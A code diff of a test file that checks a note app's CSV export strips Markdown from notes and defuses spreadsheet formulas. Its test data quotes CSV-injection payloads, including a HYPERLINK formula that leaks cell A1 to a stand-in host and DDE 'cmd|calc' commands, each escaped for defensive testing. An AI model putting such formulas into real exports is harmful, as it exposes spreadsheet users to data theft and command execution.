@@ -4,6 +4,7 @@
  * included), and no cell a spreadsheet would run as a formula.
  */
 import { parse } from 'csv-parse/sync';
+import { notePlainText } from '../../shared/markdown/note';
 import { describe, expect, it } from 'vitest';
 import { CSV_COLUMNS, TAG_SEPARATOR, defuse, exportCsv } from './csv';
 import * as fx from '../../../tests/support/entries';
@@ -45,7 +46,8 @@ describe('CSV export', () => {
       expect(row.anchor).toBe(a ? (e.target ? a.anchor : 'orphan') : e.target ? 'attached' : 'orphan');
       expect(row.link).toBe(`recollection://block/${row.block_id}`);
       // Lines starting like a formula (Markdown bullets "- ") carry the defusing quote; see below.
-      if (a) expect(row.note).toBe(defuse(a.note));
+      // The note reads as plain text: its Markdown markup is removed (#15.2).
+      if (a) expect(row.note).toBe(defuse(notePlainText(a.note)));
       else expect(row.note).toBe(b!.label); // these labels all say more than the citation
     });
     const multiline = rows.find((r) => r.note.includes('ILO C189'))!;
@@ -68,7 +70,7 @@ describe('CSV export', () => {
     expect(out.map((r) => r.note)).toEqual([
       `'=HYPERLINK("http://example.org?leak="&A1,"click")`,
       `'-2+3+cmd|' /C calc'!A0`,
-      `'\t=1+1`,
+      `'=1+1`, // a tab-indented line is a code block in Markdown: its text is "=1+1"
       `'@risk: ask capital`,
     ]);
     expect(out[0].tags).toBe(`'+cmd${TAG_SEPARATOR}@SUM(1)`);
@@ -96,8 +98,9 @@ describe('CSV export', () => {
     expect(strict).toEqual(out);
     expect(out.map((r) => r.type)).toEqual(['annotation', 'annotation', 'annotation', 'bookmark']);
     expect(out[0].note).toBe("Ask capital first\n'=1+1\n'@SUM(2*3)\n'-2+3");
-    expect(out[1].note).toBe("'- check with capital\n'- check the SDG target\r\n'+ ask");
-    expect(out[2].note).toBe(`line\r'=HYPERLINK("x")\n'\t=1\n\r'@A1`);
+    // Plain text of the notes (Markdown read, line ends normalised), every line still defused.
+    expect(out[1].note).toBe("'- check with capital\n'- check the SDG target\n'- ask");
+    expect(out[2].note).toBe(`line\n'=HYPERLINK("x")\n'=1\n'@A1`);
     expect(out[3].note).toBe("first\n'=cmd|calc");
     // No line of any cell starts with a formula trigger unprefixed.
     for (const row of out)
